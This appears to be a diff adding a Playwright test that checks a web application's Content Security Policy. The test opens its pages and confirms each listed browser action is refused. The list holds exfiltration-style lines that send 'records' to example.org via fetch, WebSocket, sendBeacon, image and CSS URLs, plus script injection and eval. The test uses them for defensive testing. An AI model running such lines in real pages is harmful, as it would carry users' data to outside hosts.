@@ -1,0 +1,140 @@
+import assert from 'node:assert/strict';
+import { mkdir } from 'node:fs/promises';
+import { createServer } from 'node:http';
+import { chromium, type Page } from 'playwright-core';
+import { chromiumArguments, findChromium } from '../../scripts/chromium.mjs';
+import { freePort } from './server.ts';
+
+interface Checked {
+  readonly url: string;
+  readonly paths: readonly string[];
+  /** The form of a record with a picture, where there are such records. */
+  readonly form: string | undefined;
+  /** The folder for screenshots. */
+  readonly screenshots: string;
+}
+
+/**
+ * Opens pages of a running application as its people do, and does in one of them what code that carries records away would do. Expects that the
+ * pages work without a word in the console, that their pictures are shown, and that everything else is refused.
+ */
+export async function keepsToPolicy({ url, paths, form, screenshots }: Checked): Promise<void> {
+  await mkdir(screenshots, { recursive: true });
+  const site = await startPictureSite();
+  const browser = await chromium.launch({ executablePath: await findChromium(), args: chromiumArguments });
+  try {
+    const page = await browser.newPage({ viewport: { width: 1280, height: 800 } });
+    const faults: string[] = [];
+    page.on('console', (message) => {
+      if (['error', 'warning'].includes(message.type())) faults.push(message.text());
+    });
+    page.on('pageerror', (error) => faults.push(String(error)));
+    for (const path of ['/', ...paths, '/api/docs']) {
+      await open(page, url + path);
+      await picturesAreShown(page);
+      assert.deepEqual(faults, [], `${path} opens without a word`);
+    }
+    if (form !== undefined) await showsNewPicture(page, url + form, site.url, screenshots);
+    await refuses(page, url);
+  } finally {
+    await browser.close();
+    await site.stop();
+  }
+}
+
+async function open(page: Page, address: string, waitUntil: 'load' | 'networkidle' = 'networkidle'): Promise<void> {
+  const goTo = () => page.goto(address, { waitUntil });
+  // A page loads itself anew for a picture, or because Vite has found another package to prepare.
+  await goTo().catch(async (error) => {
+    if (!/interrupted by another navigation|ERR_ABORTED/.test(String(error))) throw error;
+    await page.waitForLoadState(waitUntil);
+    await goTo();
+  });
+  await page.locator('h1').first().waitFor({ timeout: 20_000 });
+}
+
+/** Pictures are loaded when they come into sight, and have a size once they are there. */
+async function picturesAreShown(page: Page): Promise<number> {
+  const pictures = await page.locator('img').elementHandles();
+  for (const picture of pictures) {
+    await picture.scrollIntoViewIfNeeded();
+    await page.waitForFunction((image) => image instanceof HTMLImageElement && image.naturalWidth > 0, picture);
+  }
+  return pictures.length;
+}
+
+/** Gives a record a picture of a site that no record has named, and expects to see it without doing anything more. */
+async function showsNewPicture(page: Page, form: string, site: string, screenshots: string): Promise<void> {
+  await open(page, form);
+  const control = page.locator('input[inputmode=url]:not([type=url])').first();
+  const before = await control.inputValue();
+  await control.fill(`${site}/picture.svg`);
+  await page.getByText('A picture from a new site is shown once it is saved.').waitFor();
+  await page.screenshot({ path: `${screenshots}/form.png`, fullPage: true });
+  await page.getByRole('button', { name: 'Save changes' }).click();
+  await page.waitForFunction((start) => {
+    const picture = document.querySelector<HTMLImageElement>(`main img[src^="${start}"]`);
+    return picture !== null && picture.naturalWidth > 0;
+  }, site);
+  await page.getByText(/ saved$/).waitFor();
+  await page.screenshot({ path: `${screenshots}/saved.png`, fullPage: true });
+  await open(page, form);
+  await control.fill(before);
+  await page.getByRole('button', { name: 'Save changes' }).click();
+  await page.getByText(/ saved$/).waitFor();
+}
+
+/** What code in a page would try, and what of the policy refuses it. */
+const attempts: readonly [code: string, directive: string][] = [
+  ["void fetch('https://example.org/?records').catch(() => {})", 'connect-src'],
+  ["void new WebSocket('wss://example.org')", 'connect-src'],
+  ["navigator.sendBeacon('https://example.org', 'records')", 'connect-src'],
+  ["new Image().src = 'https://example.org/?records'", 'img-src'],
+  ["document.body.style.background = 'url(https://example.org/?records)'", 'img-src'],
+  [appended('script', { src: 'https://example.org/x.js' }), 'script-src-elem'],
+  [appended('script', { text: 'window.ran = true' }), 'script-src-elem'],
+  [appended('style', { textContent: 'p { color: red }' }), 'style-src-elem'],
+  [appended('iframe', { src: 'https://example.org' }), 'frame-src'],
+  [appended('link', { rel: 'prefetch', href: 'https://example.org/?records' }), 'default-src'],
+  ["setTimeout('window.ran = true')", 'script-src'],
+  ["setTimeout(() => eval('window.ran = true'))", 'script-src'],
+  ["setTimeout(() => new Function('window.ran = true')())", 'script-src'],
+];
+
+function appended(element: string, properties: object): string {
+  return `void document.body.append(Object.assign(document.createElement('${element}'), ${JSON.stringify(properties)}))`;
+}
+
+async function refuses(page: Page, url: string): Promise<void> {
+  const refused: string[] = [];
+  await page.exposeFunction('noteRefused', (directive: string) => refused.push(directive));
+  await page.addInitScript(
+    "document.addEventListener('securitypolicyviolation', (event) => noteRefused(event.effectiveDirective))",
+  );
+  for (const [code, directive] of attempts) {
+    await open(page, url, 'load');
+    refused.length = 0;
+    await page.evaluate(code);
+    for (let wait = 0; wait < 200 && !refused.includes(directive); wait += 1) await page.waitForTimeout(50);
+    assert.ok(refused.includes(directive), `${code} is refused by ${directive}: ${refused.join(' ')}`);
+  }
+}
+
+/** A server of one picture, on a port of its own: for a page that is another site. */
+async function startPictureSite(): Promise<{ url: string; stop(): Promise<void> }> {
+  const server = createServer((_request, response) => {
+    response.setHeader('Content-Type', 'image/svg+xml');
+    response.end(
+      '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 8 5"><path fill="#c0392b" d="M0 0h8v5H0z"/></svg>',
+    );
+  });
+  const port = await freePort();
+  await new Promise<void>((resolve) => server.listen(port, '127.0.0.1', resolve));
+  return {
+    url: `http://127.0.0.1:${port}`,
+    async stop() {
+      server.closeAllConnections();
+      await new Promise((resolve) => server.close(resolve));
+    },
+  };
+}
